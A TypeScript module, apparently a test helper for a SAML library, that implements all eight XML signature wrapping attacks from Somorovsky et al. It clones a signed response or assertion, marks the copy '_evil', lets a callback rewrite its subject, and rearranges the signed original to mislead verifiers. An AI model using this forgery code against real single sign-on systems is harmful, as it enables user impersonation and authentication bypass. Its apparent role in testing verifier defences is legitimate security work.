/** The eight ways of signature wrapping (Somorovsky et al., "On Breaking SAML", 2012): what was signed moves, and something else stands in its place. */
import { DOMParser, XMLSerializer } from '@xmldom/xmldom'
import { ns } from '../xml.ts'

export const ways = [1, 2, 3, 4, 5, 6, 7, 8] as const

/**
 * @param text a response whose root (ways 1 and 2) or assertion (3 to 8) is signed
 * @param evil what its copy says of the subject instead
 */
export function wrapped(text: string, way: (typeof ways)[number], evil: (copy: Element) => void): string {
  const document = new DOMParser().parseFromString(text, 'text/xml')
  const response = document.documentElement as Element
  const within = (root: Element, space: string, name: string) => root.getElementsByTagNameNS(space, name)[0] as Element
  const original = way <= 2 ? response : within(response, ns.assertion, 'Assertion')
  const signature = within(original, ns.signature, 'Signature')
  const copy = original.cloneNode(true) as Element
  const copied = within(copy, ns.signature, 'Signature')
  copy.setAttribute('ID', '_evil')
  evil(copy)
  const bare = original.cloneNode(true) as Element
  bare.removeChild(within(bare, ns.signature, 'Signature'))
  const put = (inside: Element, node: Element, before: Node | null = null) => inside.insertBefore(node, before)
  switch (way) {
    case 1:
      put(copied, bare)
      document.replaceChild(copy, response)
      break
    case 2:
      put(copy, bare, copied)
      document.replaceChild(copy, response)
      break
    case 3:
      copy.removeChild(copied)
      put(response, copy, original)
      break
    case 4:
      copy.removeChild(copied)
      response.replaceChild(copy, original)
      put(copy, original)
      break
    case 5:
      copy.removeChild(copied)
      response.replaceChild(copy, original)
      put(copy, signature.cloneNode(true) as Element)
      put(response, bare)
      break
    case 6:
      response.replaceChild(copy, original)
      put(copied, bare)
      break
    case 7: {
      copy.removeChild(copied)
      const extensions = document.createElementNS(ns.protocol, 'samlp:Extensions')
      put(extensions, copy)
      put(response, extensions, original)
      break
    }
    case 8: {
      const object = document.createElementNS(ns.signature, 'ds:Object')
      put(object, bare)
      put(copied, object)
      response.replaceChild(copy, original)
    }
  }
  return new XMLSerializer().serializeToString(document)
}
